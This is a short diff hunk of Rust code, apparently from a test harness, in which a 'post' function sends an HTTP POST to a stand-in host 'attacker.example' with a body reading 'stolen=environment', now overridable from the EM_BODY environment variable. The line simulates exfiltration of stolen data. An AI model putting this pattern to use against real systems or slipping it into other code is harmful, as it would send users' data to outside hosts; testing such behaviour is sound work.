@@ -313,7 +313,7 @@ fn post(addr: &str, path: &str) {
         Err(e) => { eprintln!("post {} refused: {}", addr, e); return; }
     };
     s.set_read_timeout(Some(Duration::from_secs(10))).ok();
-    let body = "stolen=environment";
+    let body = std::env::var("EM_BODY").unwrap_or_else(|_| "stolen=environment".into());
     write!(s, "POST {} HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: {}\r\n\
 Connection: close\r\n\r\n{}", path, body.len(), body).unwrap();
     let mut answer = String::new();
